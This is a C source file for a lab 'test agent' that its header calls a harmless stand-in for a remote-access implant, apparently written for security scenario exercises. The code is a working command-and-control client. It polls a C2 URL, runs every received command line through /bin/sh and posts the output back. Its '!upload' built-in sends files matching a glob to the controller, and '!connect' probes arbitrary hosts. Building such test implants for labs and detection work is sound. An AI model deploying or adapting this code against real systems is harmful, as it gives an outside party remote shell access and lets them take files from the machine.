/*
 * The test agent of the scenario corpus (levels 7 and 8): a small, harmless stand-in for a
 * remote-access implant. It polls its C2 over plain HTTP, runs the command lines it is given
 * with /bin/sh, and posts the output back. Built-ins: "!connect HOST PORT" (one TCP connect,
 * a line sent, closed), "!upload GLOB" (POST the first matching file, capped at 64 KiB) and
 * "!exit". It only ever talks to the URL it is given, and only runs inside bos's lab.
 *
 *   agent [-i POLL_MS] [-n MAX_POLLS] http://HOST[:PORT]
 *
 * Protocol (scenarios/src/operator.c is the other end):
 *   GET  /task    -> 200, body: "no task\n" or one command per line
 *   POST /result  -> body: the output of one command ("$ cmd\n" + output)
 *   POST /upload  -> body: a file's bytes
 */
#define _GNU_SOURCE
#include <errno.h>
#include <glob.h>
#include <netdb.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define MAX_BODY (64 * 1024)

static char c2_host[256], c2_port[16] = "80";

static void sleep_ms(long ms)
{
	struct timespec ts = { ms / 1000, (ms % 1000) * 1000000L };

	while (nanosleep(&ts, &ts) && errno == EINTR)
		;
}

static int dial(const char *host, const char *port, int timeout_ms)
{
	struct addrinfo hints = { .ai_family = AF_INET, .ai_socktype = SOCK_STREAM }, *res;
	struct pollfd p;
	int fd, err = 0;
	socklen_t len = sizeof(err);

	if (getaddrinfo(host, port, &hints, &res))
		return -1;
	fd = socket(res->ai_family, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
	if (fd >= 0 && connect(fd, res->ai_addr, res->ai_addrlen) && errno != EINPROGRESS) {
		close(fd);
		fd = -1;
	}
	freeaddrinfo(res);
	if (fd < 0)
		return -1;
	p = (struct pollfd){ .fd = fd, .events = POLLOUT };
	if (poll(&p, 1, timeout_ms) != 1 || getsockopt(fd, SOL_SOCKET, SO_ERROR, &err, &len) || err) {
		close(fd);
		return -1;
	}
	return fd;
}

static int write_all(int fd, const char *p, size_t n)
{
	while (n) {
		ssize_t w = write(fd, p, n);

		if (w < 0 && errno == EINTR)
			continue;
		if (w <= 0)
			return -1;
		p += w;
		n -= (size_t)w;
	}
	return 0;
}

/* One HTTP/1.0 request; the response body (NUL-terminated, capped) goes to body. */
static int http(const char *method, const char *path, const char *data, size_t len, char *body,
		size_t cap)
{
	char hdr[512], *resp = malloc(MAX_BODY + 1024), *start;
	size_t got = 0;
	ssize_t n;
	int fd = dial(c2_host, c2_port, 2000), status = -1;
	struct pollfd p;

	if (body && cap)
		body[0] = 0;
	if (fd < 0 || !resp) {
		free(resp);
		if (fd >= 0)
			close(fd);
		return -1;
	}
	snprintf(hdr, sizeof(hdr), "%s %s HTTP/1.0\r\nHost: %s\r\nUser-Agent: bos-scenario-agent/1\r\n"
		 "Content-Length: %zu\r\n\r\n", method, path, c2_host, len);
	if (write_all(fd, hdr, strlen(hdr)) || (len && write_all(fd, data, len)))
		goto out;
	p = (struct pollfd){ .fd = fd, .events = POLLIN };
	while (got < MAX_BODY + 1023 && poll(&p, 1, 3000) == 1 &&
	       (n = read(fd, resp + got, MAX_BODY + 1023 - got)) > 0)
		got += (size_t)n;
	resp[got] = 0;
	if (sscanf(resp, "HTTP/%*s %d", &status) != 1)
		status = -1;
	start = strstr(resp, "\r\n\r\n");
	if (body && cap && start)
		snprintf(body, cap, "%s", start + 4);
out:
	close(fd);
	free(resp);
	return status;
}

static void post_result(const char *cmd, const char *out, size_t len)
{
	size_t hl = strlen(cmd) + 3;	/* "$ " cmd "\n" */
	char *b = malloc(hl + len + 1);

	if (!b)
		return;
	snprintf(b, hl + 1, "$ %s\n", cmd);
	memcpy(b + hl, out, len);
	http("POST", "/result", b, hl + len, NULL, 0);
	free(b);
}

static void run_shell(const char *cmd)
{
	char *out = malloc(MAX_BODY);
	size_t len = 0, n;
	FILE *f;

	if (!out)
		return;
	f = popen(cmd, "r");	/* /bin/sh -c cmd */
	if (f) {
		while (len < MAX_BODY && (n = fread(out + len, 1, MAX_BODY - len, f)) > 0)
			len += n;
		pclose(f);
	}
	post_result(cmd, out, len);
	free(out);
}

static void do_connect(const char *cmd, const char *args)
{
	char host[128], port[16], msg[256];
	int fd;

	if (sscanf(args, "%127s %15s", host, port) != 2)
		return;
	fd = dial(host, port, 1500);
	if (fd >= 0) {
		write_all(fd, "hello\r\n", 7);
		close(fd);
	}
	snprintf(msg, sizeof(msg), "connect %s:%s: %s\n", host, port, fd >= 0 ? "open" : "failed");
	post_result(cmd, msg, strlen(msg));
}

static void do_upload(const char *cmd, const char *pattern)
{
	glob_t g;
	char *data = malloc(MAX_BODY);
	size_t len = 0;
	FILE *f = NULL;

	if (!data)
		return;
	if (glob(pattern, GLOB_TILDE, NULL, &g) == 0) {
		for (size_t i = 0; i < g.gl_pathc && !f; i++)
			f = fopen(g.gl_pathv[i], "rb");
		globfree(&g);
	}
	if (f) {
		len = fread(data, 1, MAX_BODY, f);
		fclose(f);
		http("POST", "/upload", data, len, NULL, 0);
	} else {
		post_result(cmd, "upload: nothing matched\n", 24);
	}
	free(data);
}

int main(int argc, char **argv)
{
	int poll_ms = 300, max_polls = 100, c;
	char *task = malloc(MAX_BODY);
	const char *url, *h, *colon, *slash;

	while ((c = getopt(argc, argv, "i:n:")) != -1) {
		switch (c) {
		case 'i': poll_ms = atoi(optarg); break;
		case 'n': max_polls = atoi(optarg); break;
		default: goto usage;
		}
	}
	if (optind + 1 != argc || strncmp(argv[optind], "http://", 7) || !task)
		goto usage;
	url = argv[optind];
	h = url + 7;
	slash = strchr(h, '/');
	if (!slash)
		slash = h + strlen(h);
	colon = memchr(h, ':', (size_t)(slash - h));
	snprintf(c2_host, sizeof(c2_host), "%.*s", (int)((colon ? colon : slash) - h), h);
	if (colon)
		snprintf(c2_port, sizeof(c2_port), "%.*s", (int)(slash - colon - 1), colon + 1);
	setvbuf(stdout, NULL, _IOLBF, 0);

	for (int i = 0; i < max_polls; i++) {
		char *line, *save = NULL;

		if (http("GET", "/task", NULL, 0, task, MAX_BODY) == 200 && strncmp(task, "no task", 7)) {
			for (line = strtok_r(task, "\n", &save); line; line = strtok_r(NULL, "\n", &save)) {
				printf("task: %s\n", line);
				if (!strncmp(line, "!connect ", 9))
					do_connect(line, line + 9);
				else if (!strncmp(line, "!upload ", 8))
					do_upload(line, line + 8);
				else if (!strcmp(line, "!exit"))
					return 0;
				else if (*line)
					run_shell(line);
			}
		}
		sleep_ms(poll_ms);
	}
	free(task);
	return 0;
usage:
	fprintf(stderr, "usage: agent [-i POLL_MS] [-n MAX_POLLS] http://HOST[:PORT]\n");
	return 2;
}
